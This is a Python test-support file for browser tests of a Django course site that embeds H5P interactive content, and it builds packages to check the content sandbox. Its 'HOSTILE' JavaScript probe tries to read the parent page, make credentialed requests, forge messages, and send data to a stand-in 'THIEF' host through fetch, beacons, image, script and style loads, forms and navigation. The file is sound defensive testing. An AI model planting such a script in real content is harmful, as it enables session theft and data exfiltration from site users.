"""Contents made for the browser tests, and a lesson of the demonstration to play them in.

The demonstration is another process over its own folder; what is put in is put in as an operator would, by a process of
its own over the same folder.
"""

import json
import os
import subprocess
import sys
from pathlib import Path
from typing import Any

from h5p_packages import LIBRARY, packed, sound_with
from playwright.sync_api import Frame, Page, expect

LESSON = "/en/significant-harm/what-significant-harm-is/"
SEMANTICS = [{"name": "text", "type": "text"}]

PLAY = """
H5P.Probe = function (params, id, extras) {
  const self = this;
  H5P.EventDispatcher.call(self);
  const kept = Object.assign({ words: "" }, extras && extras.previousState);
  self.getCurrentState = () => kept;
  self.attach = ($place) => {
    $place.html('<label>Words <input></label> <button>Answer</button> <p></p> <a href="https://elsewhere.example/page">elsewhere</a>');
    const field = $place.find("input").val(kept.words);
    field.on("input", () => { kept.words = field.val(); });
    $place.find("button").on("click", () => {
      const event = self.createXAPIEventTemplate("answered");
      event.setScoredResult(1, 1, self, true, true);
      self.trigger(event);
      $place.find("p").text("answered");
    });
    self.trigger("resize");
  };
};
H5P.Probe.prototype = Object.create(H5P.EventDispatcher.prototype);
"""


# Everything a hostile content might try; `THIEF` is a server of the test that must never be asked anything.
HOSTILE = """
H5P.Probe = function (params) {
  const self = this;
  H5P.EventDispatcher.call(self);
  const tried = {};
  const attempt = async (name, act) => {
    try { tried[name] = "reached " + String(await act()).slice(0, 80); } catch (error) { tried[name] = "refused"; }
  };
  const loaded = (tag, attribute, address) => new Promise((yes, no) => {
    const element = document.createElement(tag);
    element.onload = () => yes("loaded"); element.onerror = () => no(new Error());
    element[attribute] = address; document.body.append(element);
  });
  const site = new URL(location.href).origin;
  self.attach = async ($place) => {
    $place.html("<p>busy</p>");
    await attempt("page", () => window.parent.document.title);
    await attempt("top", () => window.top.location.href);
    await attempt("storage", () => Object.getPrototypeOf(window).constructor && indexedDB.open("x") && caches.keys());
    await attempt("session", () => fetch(site + "/en/people/", { credentials: "include" }).then((r) => r.text()));
    await attempt("state", () => fetch(site + "/en/interactive/1/tell/", { method: "POST", credentials: "include", body: "{}" }).then((r) => r.status));
    await attempt("thief", () => fetch("THIEF/fetch?" + location.href));
    await attempt("beacon", () => { if (!navigator.sendBeacon("THIEF/beacon", "x")) throw new Error(); return "sent"; });
    await attempt("picture", () => loaded("img", "src", "THIEF/picture"));
    await attempt("script", () => loaded("script", "src", "THIEF/script.js"));
    await attempt("style", () => { const s = document.createElement("style"); s.textContent = "body{background:url(THIEF/style)}@import 'THIEF/import.css'"; document.head.append(s); return new Promise((y, n) => setTimeout(n, 500)); });
    await attempt("socket", () => new Promise((yes, no) => { const s = new WebSocket(site.replace("http", "ws") + "/live/1/"); s.onopen = () => yes("open"); s.onerror = no; }));
    await attempt("peer", () => { const p = new RTCPeerConnection({ iceServers: [{ urls: "stun:127.0.0.1" }] }); p.createDataChannel("x"); return p.createOffer().then((o) => p.setLocalDescription(o)); });
    await attempt("window", () => { const w = window.open("THIEF/window"); if (!w) throw new Error(); return "open"; });
    await attempt("parent", () => { window.top.location = "THIEF/top"; return new Promise((y, n) => setTimeout(n, 500)); });
    window.parent.postMessage({ h5p: "play", state: "forged" }, "*");
    window.parent.postMessage({ kind: "state", value: "forged without a port" }, "*");
    $place.find("p").text(JSON.stringify(tried));
    $place.append("<button>Send a form</button><button>Leave</button>");
    const [form, leave] = $place.find("button");
    form.onclick = () => { const f = document.createElement("form"); f.action = "THIEF/form"; f.method = "post"; document.body.append(f); f.submit(); };
    leave.onclick = () => { location.href = "THIEF/navigation?" + document.body.innerText.slice(0, 20); };
  };
};
H5P.Probe.prototype = Object.create(H5P.EventDispatcher.prototype);
"""


def package(script: str, name: str) -> bytes:
    """A package whose one library runs this script; its machine name is its own, so that no build waits for another."""
    files: dict[str, Any] = {key.replace("T.Probe", name): value for key, value in sound_with().items()}
    folder = LIBRARY.replace("T.Probe", name)
    files["h5p.json"] |= {"mainLibrary": name, "title": f"Test of {name}", "language": "en"}
    files["h5p.json"]["preloadedDependencies"][0]["machineName"] = name
    files[f"{folder}/library.json"]["machineName"] = name
    files[f"{folder}/semantics.json"] = SEMANTICS
    files[f"{folder}/probe.js"] = script.replace("H5P.Probe", f"H5P.{name.rpartition('.')[2]}").encode()
    files["content/content.json"] = {"text": "x"}
    return packed(files)


PUT_IN = """
import io, json, sys, uuid
import django; django.setup()
from courses.models import Lesson
from media.importing import import_package
path, slug, need = sys.argv[1:]
with open(path, "rb") as file:
    content = import_package(file, "test.h5p", language="en").version.content
content.need = need
content.save()
lesson = Lesson.objects.get(slug=slug, locale__language_code="en")
block = {"type": "interactive", "id": str(uuid.uuid4()), "value": {"content": content.pk}}
body = [each for each in lesson.body.get_prep_value() if each["type"] != "interactive"]
Lesson.objects.filter(pk=lesson.pk).update(body=json.dumps([block, *body]))
print(content.pk)
"""


def put_in(folder: Path, raw: bytes, need: str) -> None:
    """Take a package in, and let it stand first in the lesson."""
    path = folder / "test.h5p"
    path.write_bytes(raw)
    slug = LESSON.rstrip("/").rpartition("/")[2]
    surroundings = {name: value for name, value in os.environ.items() if not name.startswith(("DIOGEL_", "DJANGO_"))}
    more = {"DIOGEL_DEMO": "1", "DIOGEL_DATA": str(folder), "DJANGO_SETTINGS_MODULE": "diogel.settings"}
    command = [sys.executable, "-c", PUT_IN, str(path), slug, need]
    subprocess.run(command, env=surroundings | more, check=True, capture_output=True, timeout=600)


def frame_of(page: Page) -> Frame:
    """The frame of the lesson's content, once it has started."""
    expect(page.locator(".interactive[data-started]")).to_be_visible()
    handle = page.locator(".interactive iframe").element_handle()
    frame = handle.content_frame() if handle else None
    assert frame
    page.wait_for_timeout(1000)
    return frame


def runtime_requests(page: Page) -> list[str]:
    """What a first view asked for, beside the lesson's own page and the content's pictures and sounds."""
    asked = [each.url for each in page.answers if "/media/" in each.url or "/vendor/h5p/" in each.url]  # type: ignore[attr-defined]
    return [each for each in asked if "/h5p/content/" not in each]


def told(text: str) -> dict[str, str]:
    """What the hostile content says of what it tried."""
    found: dict[str, str] = json.loads(text)
    return found
